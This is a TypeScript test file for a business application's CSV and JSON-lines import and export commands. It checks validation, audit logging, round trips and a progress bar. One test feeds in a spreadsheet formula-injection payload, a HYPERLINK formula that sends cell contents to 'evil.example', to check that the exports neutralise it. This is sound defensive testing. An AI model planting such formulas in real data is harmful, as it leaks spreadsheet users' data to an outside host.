import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { kindOf } from '../../src/business/import/import.ts';
import { createProgressBar } from '../../src/cli/progress.ts';
import { findResource, RESOURCES } from '../../src/resources/all.ts';
import type { Values } from '../../src/resources/resource.ts';
import { connectBusiness } from '../support/business-api.ts';
import { createCommandLine } from '../support/command-line.ts';
import { startTestServer } from '../support/test-server.ts';

const server = await startTestServer();
const cli = createCommandLine();
const env = { DATABASE_URL: server.database.url };
const db = server.storage().durable;

let files = 0;
function writeFile(extension: string, lines: (string | object)[]): string {
  const file = join(cli.folder, `file-${files++}.${extension}`);
  writeFileSync(file, lines.map((line) => `${typeof line === 'string' ? line : JSON.stringify(line)}\n`).join(''));
  return file;
}

const argsOf = (business: { id: string }, kind: string) => ['--business', business.id, '--kind', kind];

/** Imports lines of CSV, or objects as JSON lines. */
function load(business: { id: string }, kind: string, lines: (string | object)[], ...more: string[]) {
  const file = writeFile(typeof lines[0] === 'string' ? 'csv' : 'jsonl', lines);
  return cli.run(['import', file, ...argsOf(business, kind), ...more], { env });
}

async function dump(business: { id: string }, kind: string): Promise<Values[]> {
  const output = join(cli.folder, `file-${files++}.jsonl`);
  await cli.json(['export', ...argsOf(business, kind), '--output', output], { env });
  const lines = readFileSync(output, 'utf8').split('\n').filter(Boolean);
  return lines.map((line) => JSON.parse(line));
}

test('a CSV file is imported, with states and with references by name and e-mail address', async () => {
  const api = await connectBusiness(server, 'Csv');
  const { business } = api;
  await load(business, 'companies', ['name,country', 'Northwind,GB', 'Contoso,DE']);

  const contacts = await load(business, 'contacts', [
    'name,email,status,company,notes',
    '"Lindqvist, Mara",mara@northwind.example,ACTIVE,Northwind,"Two\nlines"',
    'Ida,,ARCHIVED,,',
  ]);
  const deals = await load(business, 'deals', [
    'title,stage,amount,currency,contact,company,lostReason',
    'Machines,LOST,18400,GBP,mara@northwind.example,Contoso,Too dear',
    'Beans,LEAD,90.5,GBP,Ida,,',
  ]);

  assert.deepEqual([contacts.status, contacts.stdout], [0, 'Imported: 2 contacts.\n']);
  assert.deepEqual([deals.status, deals.stderr], [0, '']);
  const [mara, ida] = await dump(business, 'contacts');
  const [contoso] = (await dump(business, 'companies')).filter(({ name }) => name === 'Contoso');
  const [lost, lead] = await dump(business, 'deals');
  assert.deepEqual(
    [mara?.name, mara?.notes, ida?.status, ida?.email],
    ['Lindqvist, Mara', 'Two\nlines', 'ARCHIVED', null],
  );
  assert.deepEqual([lost?.contactId, lost?.companyId, lost?.lostReason], [mara?.id, contoso?.id, 'Too dear']);
  assert.deepEqual([lead?.contactId, lead?.stage, lead?.amount], [ida?.id, 'LEAD', '90.50']);
});

test('an invoice has lines, or a total alone; one that is paid has payments', async () => {
  const { business } = await connectBusiness(server, 'Billing');
  await load(business, 'contacts', [{ name: 'Mara' }]);
  const line = { description: 'Beans', quantity: '2', unitPrice: '10', taxRate: '20' };
  const defaults = { currency: 'GBP', customer: 'Mara', issueDate: '2020-01-01' };

  const { status, stdout } = await load(business, 'invoices', [
    { ...defaults, lines: [line], status: 'SENT', payments: [{ date: '2029-01-05', amount: '4.00', method: 'Card' }] },
    { ...defaults, number: 'A-1', total: '99.90', status: 'PAID' },
    { ...defaults, number: 'A-2', total: '5' },
  ]);

  assert.equal(status, 0, stdout);
  const [sent, paid, draft] = await dump(business, 'invoices');
  assert.deepEqual([sent?.number, sent?.total, sent?.amountDue], ['INV-0001', '24.00', '20.00']);
  assert.deepEqual([paid?.total, paid?.amountDue], ['99.90', '0.00']);
  assert.deepEqual(paid?.payments, [{ date: '2020-01-31', amount: '99.90', method: null }]);
  assert.deepEqual([draft?.status, draft?.amountDue], ['DRAFT', '5.00']);
});

test('every bad line is named with its fields, and nothing of the file is imported', async () => {
  const { business } = await connectBusiness(server, 'Bad');
  await load(business, 'contacts', [{ name: 'Twin' }, { name: 'Twin' }]);
  const defaults = { currency: 'GBP', customer: 'Twin', total: '1.00' };

  const contacts = await load(business, 'contacts', [
    'name,email,company',
    'Good,,',
    ',none,Nobody',
    'Short',
    'Fine,,',
  ]);
  const invoices = await load(business, 'invoices', [
    defaults,
    { ...defaults, customer: 'Somebody', number: 'X' },
    'not json',
    { currency: 'GBP', customerId: business.id, colour: 'red' },
  ]);

  assert.equal(contacts.status, 1);
  assert.deepEqual(contacts.stdout.trimEnd().split('\n'), [
    'Nothing was imported.',
    'line 3: company is not a company of this business: Nobody',
    'line 3: name is missing',
    'line 3: email must be a valid email, for example mara@northwind.example.com',
    'line 4: has 1 values, and the header names 3',
  ]);
  const named = invoices.stdout.split('\n').map((text) => text.split(' ').slice(0, 3).join(' '));
  assert.deepEqual(named.sort(), [
    '',
    'Nothing was imported.',
    'line 1: customer',
    'line 2: customer',
    'line 3: is',
    'line 4: colour',
    'line 4: customerId',
    'line 4: lines',
  ]);
  assert.equal((await dump(business, 'contacts')).length, 2);
  assert.equal((await dump(business, 'invoices')).length, 0);
});

test('values that do not fit together are bad lines too', async () => {
  const { business } = await connectBusiness(server, 'Misfits');
  await load(business, 'contacts', [{ name: 'Mara' }]);
  const defaults = { currency: 'GBP', customer: 'Mara', total: '10.00' };
  const payments = (amount: string) => [{ date: '2029-01-05', amount, method: null }];
  const lines = [{ description: 'Beans', quantity: '1', unitPrice: '1' }];

  const { problems } = JSON.parse(
    (
      await load(
        business,
        'invoices',
        [
          { ...defaults, lines },
          { ...defaults, payments: payments('1.00') },
          { ...defaults, status: 'PAID', payments: payments('1.00') },
          { ...defaults, status: 'SENT', payments: payments('10.00') },
          { ...defaults, status: 'SENT', payments: payments('11.00') },
          { ...defaults, status: 'LATE' },
          { ...defaults, currency: 'JPY', total: '1.50' },
          { ...defaults, number: 'A' },
          { ...defaults, number: 'A' },
          { ...defaults, id: 'mine' },
        ],
        '--json',
      )
    ).stdout,
  );

  const found = problems.map(({ line, field }: { line: number; field: string }) => `${line} ${field}`);
  assert.deepEqual(found, [
    '1 total',
    '2 payments',
    '3 payments',
    '4 status',
    '5 payments',
    '6 status',
    '7 total',
    '9 number',
    '10 id',
  ]);
});

test('the first hundred problems are shown, and the others counted', async () => {
  const { business } = await connectBusiness(server, 'Many');

  const { stdout } = await load(business, 'employees', Array(1234).fill({ name: 'Jonas' }));

  const lines = stdout.trimEnd().split('\n');
  assert.equal(lines.length, 102);
  assert.equal(lines[1], 'line 1: startDate is missing');
  assert.equal(lines.at(-1), 'and 1134 more');
});

test('an invoice in a currency that was withdrawn can be imported', async () => {
  const { business } = await connectBusiness(server, 'Kuna');
  await load(business, 'contacts', [{ name: 'Mara' }]);

  const { status, stdout } = await load(business, 'invoices', [{ customer: 'Mara', currency: 'HRK', total: '10.00' }]);

  assert.equal(status, 0, stdout);
});

test('a wrong header is reported once, and a quote that is not closed with its line', async () => {
  const { business } = await connectBusiness(server, 'Header');

  const header = await load(business, 'companies', ['name,colour,name', 'a,b,c', 'd,e,f']);
  const quote = await load(business, 'companies', ['name', 'Fine', '"Open']);

  assert.match(
    header.stdout,
    /^Nothing was imported\.\nline 1: colour is not one of the columns id, name, .*\nline 1: name is repeated\n$/,
  );
  assert.match(quote.stdout, /line \d: is not CSV/);
});

test('a dry run checks the file and imports nothing; - reads standard input', async () => {
  const { business } = await connectBusiness(server, 'Dry');
  const args = ['import', '-', ...argsOf(business, 'companies'), '--format', 'csv'];

  const dry = await cli.run([...args, '--dry-run'], { env, input: 'name\nNorthwind\n' });
  const before = await dump(business, 'companies');
  const real = await cli.json(args, { env, input: 'name\nNorthwind\n' });

  assert.deepEqual(dry, { status: 0, stdout: 'Checked: 1 company can be imported.\n', stderr: '' });
  assert.deepEqual(before, []);
  assert.deepEqual(real, { kind: 'companies', records: 1, isImported: true, problems: [], moreProblems: 0 });
});

test('an import is one entry of the audit log, and an event for each record to apps that may read it', async () => {
  const { business, app } = await connectBusiness(server, 'Audited');

  await load(business, 'employees', [
    { name: 'Jonas', startDate: '2029-01-01' },
    { name: 'Ida', startDate: '2029-01-01' },
  ]);

  const [entry] = await db
    .selectFrom('audit_entries')
    .selectAll()
    .where('business_id', '=', business.id)
    .where('action', '=', 'business.records_imported')
    .execute();
  await server.spreadHappenings();
  const events = await db.selectFrom('events').selectAll().where('app_id', '=', app.id).orderBy('id').execute();
  assert.deepEqual(
    [entry?.actor_kind, JSON.parse(entry?.detail ?? '')],
    ['operator', { kind: 'employees', count: '2' }],
  );
  const created = events.filter(({ type }) => type === 'employee.created').map(({ data }) => JSON.parse(data).name);
  assert.deepEqual(created, ['Jonas', 'Ida']);
});

test('a file of many batches is imported in order, and a bad last line leaves nothing behind', async () => {
  const { business } = await connectBusiness(server, 'Batches');
  const items = [{ sku: 'HB', description: 'House blend', quantity: '1', unitPrice: '9' }];
  const orders = Array.from({ length: 1201 }, (_, n) => ({
    orderedOn: '2029-01-01',
    currency: 'GBP',
    items,
    carrier: `${n}`,
  }));

  const bad = await load(business, 'orders', [...orders, { ...orders[0], currency: 'ABC' }]);
  const before = await dump(business, 'orders');
  const good = await load(business, 'orders', orders);
  const after = await dump(business, 'orders');

  assert.match(bad.stdout, /line 1202: currency must be an ISO 4217 code/);
  assert.deepEqual([before.length, good.status], [0, 0]);
  assert.deepEqual(
    after.map(({ carrier, number }) => [carrier, number]),
    orders.map(({ carrier }, n) => [carrier, `#${String(n + 1).padStart(4, '0')}`]),
  );
});

test('a number that a file gives to a late record is not given to an earlier one without a number', async () => {
  const { business } = await connectBusiness(server, 'Late number');
  await load(business, 'contacts', [{ name: 'Mara' }]);
  const invoice = { currency: 'GBP', customer: 'Mara', total: '1.00' };

  const { status, stdout } = await load(business, 'invoices', [
    ...Array(501).fill(invoice),
    { ...invoice, number: 'INV-0001' },
  ]);

  const numbers = (await dump(business, 'invoices')).map(({ number }) => number);
  assert.equal(status, 0, stdout);
  assert.deepEqual([numbers[0], numbers[500], numbers[501]], ['INV-0002', 'INV-0502', 'INV-0001']);
});

test('wrong options are named', async () => {
  const { business } = await connectBusiness(server, 'Wrong');
  const file = writeFile('txt', ['name']);
  const run = async (...args: string[]) => (await cli.run(args, { env })).stderr;

  assert.match(await run('import', ...argsOf(business, 'contacts')), /FILE is missing/);
  assert.match(await run('import', file, ...argsOf(business, 'contacts')), /--format: Use csv or jsonl/);
  assert.match(await run('import', file, ...argsOf(business, 'contact')), /--kind: Use one of companies, contacts/);
  assert.match(await run('import', 'gone.csv', ...argsOf(business, 'contacts')), /gone\.csv cannot be read/);
  assert.match(await run('import', file, ...argsOf({ id: 'x' }, 'contacts')), /--business: There is no such/);
});

test('an export can be imported into an empty business, for every kind and both formats', async () => {
  const { business: source } = await connectBusiness(server, 'Source');
  for (const resource of RESOURCES)
    await load(source, kindOf(resource), [sample(resource.name), sample(resource.name)]);
  for (const format of ['csv', 'jsonl']) {
    const { business: target } = await connectBusiness(server, `Target ${format}`);
    for (const resource of RESOURCES) {
      const kind = kindOf(resource);
      const output = join(cli.folder, `${kind}.${format}`);
      await cli.json(['export', ...argsOf(source, kind), '--output', output], { env });
      const { status, stdout } = await cli.run(['import', output, ...argsOf(target, kind)], { env });
      assert.equal(status, 0, stdout);
    }
    for (const resource of RESOURCES) {
      const [before, after] = await Promise.all([source, target].map((each) => dump(each, kindOf(resource))));
      const plain = (records: Values[] = []) => records.map((record) => withoutIds(record));
      assert.equal(before?.length, 2);
      assert.deepEqual(plain(after), plain(before), resource.name);
    }
    const [contact] = await dump(target, 'contacts');
    const companies = await dump(target, 'companies');
    assert.ok(companies.some(({ id }) => id === contact?.companyId));
  }
  const again = join(cli.folder, 'contacts.csv');
  const { stdout } = await cli.run(['import', again, ...argsOf(source, 'contacts')], { env });
  assert.match(stdout, /line 2: id is taken/);
});

test('every text survives an export and its import, empty ones and those with line separators, in both formats', async () => {
  const { business: source } = await connectBusiness(server, 'Texts');
  const { status: loaded } = await load(source, 'contacts', [
    { name: 'Line\u2028separator', jobTitle: 'Para\u2029graph', notes: '' },
    { name: 'Two\u0085lines', notes: '\u2028\n"\u2029"\n' },
    { name: 'Nothing', notes: null },
  ]);
  assert.equal(loaded, 0);
  for (const format of ['csv', 'jsonl']) {
    const { business: target } = await connectBusiness(server, `Texts in ${format}`);
    const output = join(cli.folder, `texts.${format}`);
    await cli.json(['export', ...argsOf(source, 'contacts'), '--output', output], { env });

    const { status, stdout } = await cli.run(['import', output, ...argsOf(target, 'contacts')], { env });

    assert.equal(status, 0, stdout);
    const [before, after] = await Promise.all([source, target].map((each) => dump(each, 'contacts')));
    assert.deepEqual(after?.map(withoutIds), before?.map(withoutIds));
  }
});

test('a quoted empty value counts as absent where an empty text is not allowed', async () => {
  const { business } = await connectBusiness(server, 'Quoted');

  const { status, stdout } = await load(business, 'contacts', ['name,email,notes', '"Mara","",""']);

  assert.equal(status, 0, stdout);
  const [contact] = await dump(business, 'contacts');
  assert.deepEqual([contact?.email, contact?.notes], [null, '']);
});

test('an invoice that is paid cannot be set to another status, so that its export can be imported', async () => {
  const { business: source } = await connectBusiness(server, 'Settled');
  const { business: target } = await connectBusiness(server, 'Settled again');
  const invoice = { customer: 'Mara', currency: 'GBP', total: '10.00' };
  await load(source, 'contacts', [{ name: 'Mara' }]);
  await load(source, 'invoices', [
    { ...invoice, number: 'A-1', status: 'PAID' },
    { ...invoice, number: 'A-2', status: 'SENT' },
  ]);
  const setStatus = (number: string, status: string) =>
    cli.run(['invoice', 'set-status', '--business', source.id, '--number', number, '--status', status], { env });

  const rejected = [await setStatus('A-1', 'SENT'), await setStatus('A-1', 'OVERDUE')];
  const paid = await setStatus('A-2', 'PAID');
  for (const kind of ['contacts', 'invoices']) {
    const output = join(cli.folder, `settled-${kind}.jsonl`);
    await cli.json(['export', ...argsOf(source, kind), '--output', output], { env });
    const { status, stdout } = await cli.run(['import', output, ...argsOf(target, kind)], { env });
    assert.equal(status, 0, stdout);
  }

  for (const { stderr } of rejected) assert.match(stderr, /^--status: .*nothing is due/);
  assert.equal(paid.status, 0, paid.stderr);
});

test('a CSV export has no cell that a spreadsheet computes, and the import gets the texts back', async () => {
  const { business: source } = await connectBusiness(server, 'Formulas');
  const { business: target } = await connectBusiness(server, 'Formulas again');
  const formula = '=HYPERLINK("https://evil.example?"&A1,"Open")';
  const texts = { jobTitle: "'=1+1", phone: '+44 20 7946 0018', notes: `Mara;@SUM(A1)\n-2+3\n'quoted'` };
  await load(source, 'contacts', [{ name: formula, ...texts }]);
  await load(source, 'invoices', [
    { customer: formula, currency: 'GBP', lines: [{ description: `x;${formula}`, quantity: '1', unitPrice: '1' }] },
  ]);
  for (const kind of ['contacts', 'invoices']) {
    const output = join(cli.folder, `formulas-${kind}.csv`);
    await cli.json(['export', ...argsOf(source, kind), '--output', output], { env });
    const { status, stdout } = await cli.run(['import', output, ...argsOf(target, kind)], { env });
    assert.equal(status, 0, stdout);
    assert.doesNotMatch(readFileSync(output, 'utf8'), /(^|[,;\n])"*([=@]|[+-]\D|-2)/);
    const [before, after] = await Promise.all([source, target].map((each) => dump(each, kind)));
    assert.deepEqual(after?.map(withoutIds), before?.map(withoutIds));
  }
});

/** The example of the documentation. References are by name or e-mail address. */
let samples = 0;
function sample(name: string): Values {
  const resource = findResource(name);
  samples++;
  const values: Values = { ...resource.example };
  if (resource.unique) values[resource.unique] = `N-${samples}`;
  if (name === 'company' || name === 'contact') values.name = `${values.name} ${samples}`;
  if (name === 'employee') values.email = `jonas${samples}@harbour.example`;
  for (const [field, { references }] of Object.entries(resource.fields)) {
    if (!references) continue;
    delete values[field];
    const named: Values = {
      company: 'Northwind Traders 1',
      contact: 'Mara Lindqvist 3',
      employee: 'jonas9@harbour.example',
      expense_category: 'N-11',
    };
    values[field.replace(/Id$/, '')] = named[references];
  }
  return values;
}

/** Removes ids and times, which differ after an import. */
function withoutIds(record: Values): Values {
  return Object.fromEntries(Object.entries(record).filter(([name]) => !/^id$|Id$|^updatedAt$/.test(name)));
}

test('the progress bar is drawn on a terminal only', () => {
  const written: string[] = [];
  const write = (text: string) => written.push(text) > 0;

  createProgressBar({ write, isTTY: false }).show('Writing', 0.5, '10 records');
  const bar = createProgressBar({ write, isTTY: true });
  bar.show('Writing', 0.5, '10 records');
  bar.clear();

  assert.deepEqual(written, ['\r\u001b[KWriting [###############...............] 50 % 10 records', '\r\u001b[K']);
});
